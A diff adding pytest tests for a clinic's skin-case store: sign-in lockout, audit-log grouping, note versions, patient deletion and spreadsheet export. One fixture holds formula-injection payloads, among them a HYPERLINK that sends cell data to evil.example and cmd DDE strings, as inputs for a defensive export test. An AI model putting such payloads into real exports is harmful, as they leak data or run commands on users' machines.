@@ -1,8 +1,11 @@
 """Case history storage, on a SQLite file and on a real PostgreSQL server (.ci/postgres starts one in CI)."""
 
+import csv
 import datetime
 import io
+import json
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -16,6 +19,7 @@ import pandas as pd
 import pytest
 from alembic.autogenerate import compare_metadata
 from alembic.migration import MigrationContext
+from argon2 import PasswordHasher
 from PIL import Image
 from sklearn.metrics import balanced_accuracy_score
 from sqlalchemy import create_engine, func, select, text
@@ -24,7 +28,7 @@ from skin_core.cases import (COMMAND_LINE, CaseDraft, CaseNotFoundError, CaseSto
                              InvalidCaseError, NotAllowedError, UserInactiveError, UserInfo, clinic_validation)
 from skin_core.cases import __main__ as cli
 from skin_core.cases import store as store_module
-from skin_core.cases.schema import AuditEntry, Base, Case, CaseImages
+from skin_core.cases.schema import AuditEntry, Base, Case, CaseImages, NoteVersion, SignInAttempt, User
 from skin_core.classes import CLASS_CODES, MALIGNANT_CODES
 
 ADMIN = UserInfo("admin", "admin")
@@ -207,7 +211,7 @@ def test_every_view_edit_export_and_deletion_is_audited(store):
     store.delete_patient(ADMIN, "BN-001")
     assert audit_actions(store)[2:] == ["save", "search", "view", "edit_note", "confirm", "export", "delete_patient"]
     entries = store.audit_log(ADMIN)
-    assert entries[0]["user"] == "admin" and "BN-001" in entries[0]["detail"]
+    assert entries[0]["user"] == "admin" and entries[0]["detail"].endswith(f": 1 cases [{case_id}]")
     assert {e["user"] for e in entries if e["action"] in ("save", "view", "confirm")} == {"lan"}
 
 
@@ -229,11 +233,13 @@ def test_export_as_csv_and_zip(store):
 def test_deleting_a_patient_removes_only_their_data(store):
     store.change_settings(ADMIN, photo_storage="thumbnail")
     for _ in range(2):
-        store.save_case(DOCTOR, draft("BN-001"))
-    kept = store.save_case(DOCTOR, draft("BN-002"))
+        gone = store.save_case(DOCTOR, draft("BN-001", note="first"))
+    store.edit_note(DOCTOR, gone, "second")
+    kept = store.save_case(DOCTOR, draft("BN-002", note="kept"))
     assert store.delete_patient(ADMIN, "BN-001") == 2
     assert [c.id for c in store.find_cases(DOCTOR)] == [kept]
     assert count(store, CaseImages) == 1
+    assert count(store, NoteVersion) == 1  # every version of the deleted patient's notes went with the cases
     assert store.delete_patient(ADMIN, "BN-001") == 0
 
 
@@ -359,6 +365,9 @@ def test_a_database_from_the_first_version_is_migrated_on_start(database):
     store = with_staff(CaseStore.open(database))
     [old] = store.find_cases(DOCTOR)
     assert (old.patient_code, old.note) == ("OLD-1", "from 0001")
+    [version] = store.open_case(DOCTOR, old.id).note_versions  # the note as it was becomes its first version
+    assert (version.text, version.edited_by, version.edited_at) == (
+        "from 0001", "lan", datetime.datetime(2026, 1, 5, 9, tzinfo=datetime.timezone.utc))
     store.change_settings(ADMIN, auto_save=True)  # the table revision 0002 added
     assert store.settings() == {"photo_storage": "thumbnail", "auto_save": True}
     store.close()
@@ -457,7 +466,468 @@ def test_five_failed_sign_ins_lock_the_name_for_a_while(store):
     assert audit_actions(store)[-2:] == ["login_refused", "login_failed"]
     entries = store.audit_log(ADMIN)
     assert all(entry["at"].tzinfo is not None for entry in entries)
-    with store.engine.begin() as connection:  # a quarter of an hour later
-        connection.execute(AuditEntry.__table__.update().values(
-            at=datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(minutes=16)))
+    a_quarter_later(store)
     assert store.authenticate("lan", "correct horse battery") == DOCTOR
+
+
+def a_quarter_later(store) -> None:
+    """Every sign-in so far as if made 16 minutes ago: past the lockout."""
+    with store.engine.begin() as connection:
+        for table in (AuditEntry.__table__, SignInAttempt.__table__):
+            connection.execute(table.update().values(
+                at=datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(minutes=16)))
+
+
+# sign-in floods -----------------------------------------------------------------------------------------------
+
+
+def hasher_calling(monkeypatch, method: str, before) -> None:
+    """The store's password hasher, calling ``before()`` first in ``method`` ("verify" or "hash")."""
+    def wrapped(self, *args, **kwargs):
+        before()
+        return getattr(PasswordHasher, method)(self, *args, **kwargs)
+
+    monkeypatch.setattr(store_module, "_hasher", type("Hasher", (PasswordHasher,), {method: wrapped})())
+
+
+@pytest.fixture
+def impatient_store(tmp_path, monkeypatch):
+    """A SQLite store whose connections give up after 0.3 s instead of 30 s: a call that would wait for a lock
+    fails (DatabaseUnavailableError) instead of passing late."""
+    monkeypatch.setattr(store_module, "SQLITE_BUSY_TIMEOUT_S", 0.3)
+    opened = with_staff(CaseStore.open(str(tmp_path / "cases.db")))
+    yield opened
+    opened.close()
+
+
+def test_reading_never_waits_for_a_writer(impatient_store):
+    """While another connection holds SQLite's write lock, what only reads answers at once."""
+    store = impatient_store
+    with store.engine.begin() as writer:  # BEGIN IMMEDIATE: the write lock, held until the block ends
+        writer.execute(AuditEntry.__table__.insert().values(at=datetime.datetime.now(datetime.timezone.utc),
+                                                            username="x", action="x", detail=""))
+        assert store.is_active(DOCTOR) and store.has_users()
+        assert store.settings()["photo_storage"] == "thumbnail"
+        assert [u["username"] for u in store.users(ADMIN)] == ["admin", "lan"]
+        assert store.audit_log(ADMIN)[0]["action"] == "add_user"
+    assert store.is_active(DOCTOR)
+
+
+@pytest.mark.parametrize("slow", ["verify", "hash"])
+def test_a_password_being_checked_or_hashed_holds_up_no_one(impatient_store, monkeypatch, slow):
+    """argon2 takes a while on purpose: meanwhile a doctor saves and opens cases (the 0.3 s busy timeout would
+    refuse them if the password work held the write lock)."""
+    store, started, release, outcome = impatient_store, threading.Event(), threading.Event(), []
+
+    def held():
+        started.set()
+        release.wait(timeout=60)
+
+    hasher_calling(monkeypatch, slow, held)
+    work = (lambda: store.authenticate("lan", PASSWORD)) if slow == "verify" else (
+        lambda: store.add_user("minh", "minh's long passphrase", "doctor", by=ADMIN))
+    thread = threading.Thread(target=lambda: outcome.append(work()))
+    thread.start()
+    try:
+        assert started.wait(timeout=60)
+        case_id = store.save_case(DOCTOR, draft())
+        assert store.open_case(DOCTOR, case_id).patient_code == "BN-001"
+    finally:
+        release.set()
+        thread.join()
+    assert outcome == [DOCTOR if slow == "verify" else None]
+
+
+def test_concurrent_wrong_passwords_get_no_more_checks_than_the_limit(store, monkeypatch):
+    """30 tries at once for one name from one address: LOGIN_ATTEMPTS passwords are checked, the rest are
+    refused without one (the attempt is counted and recorded in one step)."""
+    checks, lock, barrier = [], threading.Lock(), threading.Barrier(30)
+
+    def counted():
+        with lock:
+            checks.append(1)
+        time.sleep(0.05)  # a slower check: more tries arrive meanwhile
+
+    hasher_calling(monkeypatch, "verify", counted)
+    results, errors = [], []
+
+    def guess():
+        barrier.wait()
+        try:
+            results.append(store.authenticate("lan", "wrong guess", "203.0.113.9"))
+        except NotAllowedError:
+            results.append("refused")
+        except Exception as error:  # noqa: BLE001 - reported below
+            errors.append(error)
+
+    threads = [threading.Thread(target=guess) for _ in range(30)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert errors == []
+    assert len(checks) == store_module.LOGIN_ATTEMPTS
+    assert results.count(None) == store_module.LOGIN_ATTEMPTS and results.count("refused") == 25
+    actions = audit_actions(store)
+    assert actions.count("login_failed") == store_module.LOGIN_ATTEMPTS and actions.count("login_refused") == 25
+
+
+def test_guessing_from_one_address_does_not_lock_the_name_out_elsewhere(store):
+    stranger, desk = "203.0.113.9", "10.0.0.21"
+    for _ in range(store_module.LOGIN_ATTEMPTS):
+        assert store.authenticate("admin", "guess", stranger) is None
+    with pytest.raises(NotAllowedError, match="for admin from 203.0.113.9"):
+        store.authenticate("admin", PASSWORD, stranger)
+    assert store.authenticate("admin", PASSWORD, desk) == ADMIN  # the admin at their own desk
+    # many names from one address: that address is refused for every name, others are not
+    for index in range(store_module.ADDRESS_ATTEMPTS - store_module.LOGIN_ATTEMPTS):
+        assert store.authenticate(f"name-{index}", "guess", stranger) is None
+    with pytest.raises(NotAllowedError, match="from 203.0.113.9"):
+        store.authenticate("lan", PASSWORD, stranger)
+    assert store.authenticate("lan", PASSWORD, desk) == DOCTOR
+    entry = store.audit_log(ADMIN)[1]
+    assert (entry["action"], entry["user"]) == ("login_refused", "lan") and "203.0.113.9" in entry["detail"]
+    a_quarter_later(store)
+    assert store.authenticate("lan", PASSWORD, stranger) == DOCTOR
+
+
+def flood_of_failed_sign_ins(store, tries: int, start: datetime.datetime, every_s: float = 2, name="admin") -> None:
+    """``tries`` failed sign-ins of ``name`` from a stranger's address, one every ``every_s`` seconds from
+    ``start``, as authenticate logs them (written directly: hundreds of argon2 checks would take minutes)."""
+    with store.engine.begin() as connection:
+        connection.execute(AuditEntry.__table__.insert(), [
+            dict(at=start + datetime.timedelta(seconds=every_s * i), username=name, action="login_failed",
+                 case_id=None, detail="from 203.0.113.9") for i in range(tries)])
+
+
+def test_a_flood_of_failed_sign_ins_does_not_bury_the_audit_log(store):
+    """520 failed sign-ins filled the old 500-row view: the doctor's work stays findable by user, action and
+    date, the flood shows as one row with its count, and paging reaches the oldest entry."""
+    case_id = store.save_case(DOCTOR, draft())
+    with store.engine.begin() as connection:  # the save was made on 15 January
+        connection.execute(AuditEntry.__table__.update().where(AuditEntry.action == "save").values(
+            at=datetime.datetime(2026, 1, 15, 9, 30, tzinfo=datetime.timezone.utc)))
+    flood_of_failed_sign_ins(store, 520, store_module._now() - datetime.timedelta(hours=1))
+    store.open_case(DOCTOR, case_id)
+    everything = store.audit_log(ADMIN, limit=100)
+    assert everything.total == 2 + 1 + 520 + 1 and "save" not in [e["action"] for e in everything]  # buried
+
+    mine = store.audit_log(ADMIN, limit=100, user="LAN")
+    assert [(e["action"], e["case"]) for e in mine] == [("view", case_id), ("save", case_id)] and mine.total == 2
+    saves = store.audit_log(ADMIN, actions=("save", "confirm"))
+    assert [e["case"] for e in saves] == [case_id] and saves.total == 1
+    utc = datetime.timezone.utc
+    that_day = store.audit_log(ADMIN, since=datetime.datetime(2026, 1, 15, tzinfo=utc),
+                               before=datetime.datetime(2026, 1, 16, tzinfo=utc))
+    assert [e["action"] for e in that_day] == ["save"]
+
+    grouped = store.audit_log(ADMIN, limit=100, grouped=True)
+    assert [(e["action"], e["times"]) for e in grouped] == [("view", 1), ("login_failed", 520), ("save", 1),
+                                                            ("add_user", 1), ("add_user", 1)]
+    assert grouped.total == 5
+    run = grouped[1]
+    assert (run["at"] - run["first"]).total_seconds() == pytest.approx(519 * 2)
+    assert run["user"] == "admin" and run["detail"] == "from 203.0.113.9"
+
+    oldest, offset = None, 0
+    while offset < everything.total:
+        page = store.audit_log(ADMIN, limit=100, offset=offset)
+        assert len(page) == min(100, everything.total - offset)
+        oldest, offset = page[-1], offset + len(page)
+    assert (oldest["action"], oldest["detail"]) == ("add_user", "admin (admin)")
+
+
+def test_failed_sign_ins_are_grouped_by_name_and_by_pause(store):
+    """A run is one name's failures each within a minute of the one before: a pause of five minutes starts
+    another, another name's failures in between do not break it, and a real sign-in is never grouped."""
+    start = store_module._now() - datetime.timedelta(hours=2)
+    flood_of_failed_sign_ins(store, 30, start)
+    flood_of_failed_sign_ins(store, 3, start + datetime.timedelta(seconds=1), name="lan")
+    flood_of_failed_sign_ins(store, 20, start + datetime.timedelta(minutes=6))
+    for _ in range(2):
+        store.authenticate("admin", PASSWORD)
+    rows = [(e["user"], e["action"], e["times"]) for e in store.audit_log(ADMIN, actions=(
+        "login", "login_failed"), grouped=True)]
+    assert rows == [("admin", "login", 1), ("admin", "login", 1), ("admin", "login_failed", 20),
+                    ("lan", "login_failed", 3), ("admin", "login_failed", 30)]
+
+
+def test_a_note_keeps_every_version_and_each_edit_is_one_audit_entry(store):
+    case_id = store.save_case(DOCTOR, draft(note="Bờ đều, theo dõi."))
+    store.open_case(DOCTOR, case_id)
+    before = store.audit_log(ADMIN).total
+    store.edit_note(ADMIN, case_id, "Bờ không đều: sinh thiết.")
+    store.edit_note(DOCTOR, case_id, "Bờ không đều: sinh thiết.")  # saved again unchanged: no new version
+    store.find_cases(DOCTOR, audit=False)  # the page reads again what the doctor already sees: not logged
+    case = store.open_case(DOCTOR, case_id, audit=False)
+    assert case.note == "Bờ không đều: sinh thiết."
+    assert [(v.number, v.text, v.edited_by) for v in case.note_versions] == [
+        (1, "Bờ đều, theo dõi.", "lan"), (2, "Bờ không đều: sinh thiết.", "admin")]
+    assert case.note_versions[0].edited_at == case.created_at
+    assert case.note_versions[1].edited_at.tzinfo is not None
+    entries = store.audit_log(ADMIN, limit=2)
+    assert entries.total == before + 2
+    assert [(e["user"], e["action"], e["case"], e["detail"]) for e in entries] == [
+        ("lan", "edit_note", case_id, "version 2, unchanged"), ("admin", "edit_note", case_id, "version 2")]
+    assert store.open_case(DOCTOR, store.save_case(DOCTOR, draft())).note_versions == []  # no note, no version
+
+
+# exports -------------------------------------------------------------------------------------------------------
+
+
+FORMULAS = {"note": '=HYPERLINK("http://evil.example/?x="&A1,"see")', "lesion_label": "+1+cmd|' /C calc'!A0",
+            "clinician": "@SUM(1+1)*cmd|' /C calc'!A0", "clinic": "-2+3", "patient": "=1+1"}
+
+
+def test_export_neutralises_spreadsheet_formulas(store):
+    """Texts that a spreadsheet would run as formulas come out with a leading single quote (OWASP), quoted,
+    in the CSV and in the ZIP; everything else comes out as it was."""
+    first = store.save_case(DOCTOR, draft(FORMULAS["patient"], note=FORMULAS["note"],
+                                          lesion_label=FORMULAS["lesion_label"], clinician=FORMULAS["clinician"],
+                                          clinic=FORMULAS["clinic"]))
+    second = store.save_case(DOCTOR, draft("BN-002", note="\t=1+2\nsecond line"))
+    third = store.save_case(DOCTOR, draft("BN-003", note="\r=3+4", lesion_label="left arm, 2 cm"))
+    table = store.export(ADMIN, [first, second, third])
+    with zipfile.ZipFile(io.BytesIO(store.export(ADMIN, [first, second, third], photos=True))) as archive:
+        assert archive.read("cases.csv") == table
+    rows = list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")))
+    assert all(not cell.startswith(store_module.FORMULA_START) for row in rows for cell in row)
+    frame = pd.read_csv(io.BytesIO(table), encoding="utf-8-sig", keep_default_na=False)
+    assert (frame.loc[0, "note"], frame.loc[0, "lesion_label"], frame.loc[0, "clinician"],
+            frame.loc[0, "clinic"], frame.loc[0, "patient_code"]) == tuple(
+        "'" + FORMULAS[name] for name in ("note", "lesion_label", "clinician", "clinic", "patient"))
+    assert list(frame["note"][1:]) == ["'\t=1+2\nsecond line", "'\r=3+4"]
+    assert frame.loc[2, "lesion_label"] == "left arm, 2 cm" and frame.loc[2, "patient_code"] == "BN-003"
+    assert frame["p_nv"].dtype == float and list(frame["id"]) == [first, second, third]
+    assert "\"'=HYPERLINK(\"\"http://evil.example/" in table.decode("utf-8-sig")  # quoted, quotes doubled
+
+
+# case numbers and patient codes ---------------------------------------------------------------------------------
+
+
+def test_a_deleted_patients_case_numbers_are_never_given_again(store):
+    kept = store.save_case(DOCTOR, draft("BN-001"))
+    last = store.save_case(DOCTOR, draft("BN-002"))
+    store.open_case(DOCTOR, last)  # the audit names it
+    store.delete_patient(ADMIN, "BN-002")
+    new = store.save_case(DOCTOR, draft("BN-003"))
+    assert new > last > kept
+    assert [e["action"] for e in store.audit_log(ADMIN) if e["case"] == new] == ["save"]
+
+
+def revision_0002_with_data(database) -> None:
+    """A database as revision 0002 left it: users and codes as typed, case 7 deleted before the upgrade (the
+    audit still names it), images, and audit entries that name a patient."""
+    engine = store_module._engine(store_module.database_url(database))
+    store_module.upgrade(engine, "0002")
+    now = datetime.datetime(2026, 11, 20, 9, tzinfo=datetime.timezone.utc)
+    case_row = dict(lesion_label="", visit_date=datetime.date(2026, 11, 20), created_at=now, created_by="LAN",
+                    clinic="", clinician="", age=None, sex="male", site="face", model_name="m", model_version="1",
+                    gate_reason=None, gate_problem=None, gate_score=None,
+                    probabilities={code: 1 / 7 for code in CLASS_CODES}, top_code="akiec", malignant_probability=0.43,
+                    malignancy_threshold=0.3, malignancy_alert=True, low_confidence=False, photo_name="",
+                    photo_sha256="0" * 64, photo_storage="full", note="")
+    codes = {1: "bn-0042", 2: "BN\u200b-0042", 3: "ＢＮ－００４２", 5: "HN-7"}
+    with engine.begin() as connection:
+        connection.execute(User.__table__.insert(), [
+            dict(username=name, password_hash=store_module._hasher.hash(PASSWORD), role=role, active=True,
+                 created_at=now) for name, role in (("LAN", "doctor"), ("Chi", "admin"))])
+        connection.execute(Case.__table__.insert(), [dict(case_row, id=i, patient_code=code)
+                                                     for i, code in codes.items()])
+        connection.execute(CaseImages.__table__.insert(), [dict(case_id=i, photo=photo_bytes(),
+                                                                photo_media_type="image/png", attention=None)
+                                                           for i in codes])
+        connection.execute(AuditEntry.__table__.insert(), [
+            *(dict(at=now, username="LAN", action="save", case_id=i, detail=f"patient {code}")
+              for i, code in codes.items()),
+            dict(at=now, username="LAN", action="view", case_id=7, detail=""),
+            dict(at=now, username="LAN", action="search", case_id=None, detail=json.dumps(
+                {"patient_code": "bn-0042", "found": 3}, ensure_ascii=False))])
+    engine.dispose()
+
+
+def test_a_0002_database_is_upgraded_with_its_data(database):
+    revision_0002_with_data(database)
+    store = CaseStore.open(database)
+    lan, chi = UserInfo("lan", "doctor"), UserInfo("chi", "admin")
+    assert [u["username"] for u in store.users(chi)] == ["chi", "lan"]
+    assert store.authenticate("LAN", PASSWORD) == lan and store.authenticate("chi", PASSWORD) == chi
+    assert {c.id: c.patient_code for c in store.find_cases(lan)} == {1: "BN-0042", 2: "BN-0042", 3: "BN-0042",
+                                                                      5: "HN-7"}
+    assert count(store, CaseImages) == 4  # rebuilding the cases table deleted no photo
+    assert store.delete_patient(chi, "bn-0042") == 3
+    assert [c.id for c in store.find_cases(lan)] == [5]
+    assert not any("0042" in e["detail"] for e in store.audit_log(chi))
+    assert store.save_case(lan, draft("BN-9")) == 8  # above case 7, which the audit names
+    with store.engine.connect() as connection:
+        assert connection.scalar(text("SELECT version_num FROM alembic_version")) == "0004"
+    store.close()
+
+
+def test_users_differing_only_in_case_stop_the_upgrade_with_a_clear_message(tmp_path):
+    database = str(tmp_path / "cases.db")
+    engine = store_module._engine(store_module.database_url(database))
+    store_module.upgrade(engine, "0002")
+    with engine.begin() as connection:
+        connection.execute(User.__table__.insert(), [
+            dict(username=name, password_hash="x", role="doctor", active=True,
+                 created_at=datetime.datetime(2026, 11, 1)) for name in ("lan", "LAN")])
+    with pytest.raises(store_module.CaseError, match="users 'lan' and 'LAN' would become one"):
+        CaseStore.open(database)
+    with engine.connect() as connection:  # left as it was
+        assert connection.scalar(text("SELECT version_num FROM alembic_version")) == "0002"
+        assert sorted(connection.scalars(text("SELECT username FROM users"))) == ["LAN", "lan"]
+    engine.dispose()
+
+
+SPELLINGS = ["BN-0042", "bn-0042", " BN-0042\u00a0", "BN\u200b-0042", "\ufeffBN-0042", "ＢＮ－００４２", "Bn-0042\u200d"]
+
+
+def test_every_spelling_of_a_patient_code_is_one_patient(store):
+    ids = [store.save_case(DOCTOR, draft(code)) for code in SPELLINGS]
+    other = store.save_case(DOCTOR, draft("BN-00421"))
+    assert {c.patient_code for c in store.find_cases(DOCTOR) if c.id != other} == {"BN-0042"}
+    assert {c.id for c in store.find_cases(DOCTOR, patient_code="ｂｎ-00４2")} == {*ids, other}
+    assert len(store.lesion_visits(DOCTOR, ids[0])) == len(SPELLINGS)
+    assert store.delete_patient(ADMIN, "bn\u200b-0042 ") == len(SPELLINGS)
+    assert [c.id for c in store.find_cases(DOCTOR)] == [other]
+
+
+def test_a_deleted_patient_is_no_longer_named_in_the_audit(store):
+    """The audit keeps what was done to the patient's cases, under "deleted patient <n>" (n: the deletion's
+    own audit entry), and nothing else of the audit changes, even for a code that is a plain number."""
+    first, second = (store.save_case(DOCTOR, draft(code)) for code in ("BN-0042", "bn-0042"))
+    store.save_case(DOCTOR, draft("7"))
+    store.find_cases(DOCTOR, patient_code="bn-0042")
+    store.find_cases(DOCTOR, patient_code="BN-00")  # a part of many codes: names no one
+    store.delete_patient(ADMIN, "BN-0042")
+    deletion = store.audit_log(ADMIN)[0]
+    alias = deletion["detail"].removeprefix("patient ").split(":")[0]
+    assert re.fullmatch(r"deleted patient \d+", alias)
+    assert deletion["detail"] == f"patient {alias}: 2 cases [{first}, {second}]"
+    entries = list(reversed(store.audit_log(ADMIN)))
+    assert not any("0042" in e["detail"] for e in entries)
+    assert [e["detail"] for e in entries if e["action"] == "save"] == [f"patient {alias}"] * 2 + ["patient 7"]
+    searches = [json.loads(e["detail"]) for e in entries if e["action"] == "search"]
+    assert [(s["patient_code"], s["found"]) for s in searches] == [(alias, 2), ("BN-00", 2)]
+    store.delete_patient(ADMIN, "7")
+    later = list(reversed(store.audit_log(ADMIN)))
+    changed = [(before["detail"], after["detail"]) for before, after in zip(entries, later)
+               if before["detail"] != after["detail"]]
+    assert len(changed) == 1 and changed[0][0] == "patient 7" and changed[0][1].startswith("patient deleted patient ")
+
+
+def test_a_deleted_patient_leaves_nothing_in_the_sqlite_files(tmp_path):
+    database = tmp_path / "cases.db"
+    store = with_staff(CaseStore.open(str(database)))
+    store.change_settings(ADMIN, photo_storage="full")
+    note = "Nốt ruồi bờ không đều, secret-note-4711 " * 40  # long: stored on overflow pages too
+    for visit in range(3):
+        case_id = store.save_case(DOCTOR, draft("XQ-9137", note=note, lesion_label=f"visit-label-{visit}"))
+    store.edit_note(DOCTOR, case_id, "edited-note-0815")  # the earlier text stays as a version until deleted
+    store.save_case(DOCTOR, draft("BN-0001", note="kept note"))
+    store.find_cases(DOCTOR, patient_code="XQ-9137")
+    store.delete_patient(ADMIN, "xq-9137")
+
+    def files() -> bytes:
+        return b"".join(path.read_bytes() for path in tmp_path.iterdir() if path.name.startswith("cases.db"))
+
+    for secret in ("XQ-9137", "secret-note-4711", "Nốt ruồi", "visit-label-", "edited-note-0815"):
+        assert secret.encode() not in files(), secret
+    assert count(store, NoteVersion) == 1  # only the kept patient's note
+    assert b"kept note" in files()
+    store.close()
+    assert b"XQ-9137" not in files()
+
+
+# users, passwords and the command line ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("password", "problem"), [("12345678", "weak"), ("password1", "weak"),
+                                                   ("Password123!", "weak"), ("minh1234", "weak"),
+                                                   (" " * 8, "required"), ("\t" * 12, "required"),
+                                                   ("aaaaaaaaaaaa", "weak"), ("2 words", "too_short")])
+def test_weak_passwords_are_refused(store, password, problem):
+    with pytest.raises(InvalidCaseError) as refused:
+        store.add_user("minh", password)
+    assert (refused.value.field, refused.value.problem) == ("Password", problem)
+    with pytest.raises(InvalidCaseError):
+        store.set_password("lan", password)
+    assert store.authenticate("lan", PASSWORD) == DOCTOR and not store.user_exists("minh")
+
+
+def test_user_names_ignore_case_and_width(store):
+    store.add_user("Minh", "minh's long passphrase")
+    assert store.user_exists("MINH") and store.user_exists("ｍｉｎｈ")
+    assert store.authenticate("MINH", "minh's long passphrase") == UserInfo("minh", "doctor")
+    assert store.authenticate(" minh\u200b", "minh's long passphrase") == UserInfo("minh", "doctor")
+    with pytest.raises(InvalidCaseError, match="Username 'lan' exists already") as refused:
+        store.add_user("LAN", "another long passphrase")
+    assert refused.value.problem == "exists"
+    store.set_password("LAN", "lan's new passphrase", by=DOCTOR)  # one's own password, in any case
+    assert store.authenticate("Lan", "lan's new passphrase") == DOCTOR
+
+
+@pytest.mark.parametrize(("age", "stored"), [(None, None), ("", None), (54, 54.0), ("54,5", 54.5)])
+def test_an_age_is_stored_as_given(store, age, stored):
+    assert store.open_case(DOCTOR, store.save_case(DOCTOR, draft(age=age))).age == stored
+
+
+@pytest.mark.parametrize("age", ["abc", "1e3", 400, -3, 10 ** 400, "٥٤", True, float("inf"), [54]], ids=range(9))
+def test_an_impossible_age_is_refused_naming_it(store, age):
+    with pytest.raises(InvalidCaseError) as refused:
+        store.save_case(DOCTOR, draft(age=age))
+    assert (refused.value.field, refused.value.problem) == ("Age", "invalid")
+    assert str(refused.value).startswith(f"Age cannot be {store_module.shown(age)}: ")
+    assert count(store, Case) == 0
+
+
+def test_pdf_downloads_and_sign_outs_are_audited(store):
+    case_id = store.save_case(DOCTOR, draft())
+    store.audit_event(DOCTOR, "download_pdf", case_id)
+    store.audit_event(DOCTOR, "download_pdf")  # an analysis not saved
+    store.audit_event(DOCTOR, "sign_out")
+    with pytest.raises(InvalidCaseError):
+        store.audit_event(DOCTOR, "delete_patient")  # the store's own actions are not the app's to log
+    store.set_user("lan", by=ADMIN, active=False)
+    with pytest.raises(UserInactiveError):
+        store.audit_event(DOCTOR, "download_pdf", case_id)
+    store.audit_event(DOCTOR, "sign_out")  # the end of a deactivated user's session is still logged
+    entries = [(e["user"], e["action"], e["case"]) for e in reversed(store.audit_log(ADMIN))]
+    assert entries[-5:] == [("lan", "download_pdf", case_id), ("lan", "download_pdf", None),
+                            ("lan", "sign_out", None), ("admin", "change_user", None), ("lan", "sign_out", None)]
+
+
+def test_command_line_reads_a_windows_password_line_and_checks_the_name_first(tmp_path, monkeypatch, capsys):
+    database = str(tmp_path / "cases.db")
+    monkeypatch.setattr("sys.stdin", io.StringIO("a long password\r\n"))
+    assert cli.main(["--database", database, "add-user", "chi", "--role", "admin", "--password-stdin"]) == 0
+    store = CaseStore.open(database)
+    assert store.authenticate("chi", "a long password") == UserInfo("chi", "admin")
+
+    def no_prompt(prompt=""):
+        raise AssertionError(f"asked {prompt!r} for a name that exists")
+
+    monkeypatch.setattr(cli.getpass, "getpass", no_prompt)
+    assert cli.main(["--database", database, "add-user", "CHI"]) == 2
+    assert capsys.readouterr().err == ("error: User 'CHI' exists already; change the password with set-password, "
+                                       "or reactivate the account with reactivate.\n")
+    assert cli.main(["--database", database, "deactivate", "Chi"]) == 0
+    assert store.authenticate("chi", "a long password") is None
+    assert cli.main(["--database", database, "reactivate", "chi"]) == 0
+    assert store.authenticate("chi", "a long password") == UserInfo("chi", "admin")
+    assert "user chi reactivated" in capsys.readouterr().out
+    assert cli.main(["--database", database, "deactivate", "nobody"]) == 2
+    assert capsys.readouterr().err == "error: There is no user 'nobody'.\n"
+    monkeypatch.setattr(cli.getpass, "getpass", lambda prompt="": (_ for _ in ()).throw(EOFError))
+    assert cli.main(["--database", database, "set-password", "chi"]) == 2  # Ctrl-D at the prompt
+    assert capsys.readouterr().err == "error: cancelled; nothing was changed.\n"
+    store.close()
+
+
+@pytest.mark.parametrize("database", ["foo://host/db", "postgresql+psycopg://nobody@127.0.0.1:9/none?connect_timeout=2"])
+def test_command_line_says_why_the_database_cannot_be_used_in_one_line(database, capsys):
+    assert cli.main(["--database", database, "list-users"]) == 1
+    captured = capsys.readouterr()
+    assert captured.out == "" and captured.err.startswith("error: ") and captured.err.count("\n") == 1
+    assert "Traceback" not in captured.err
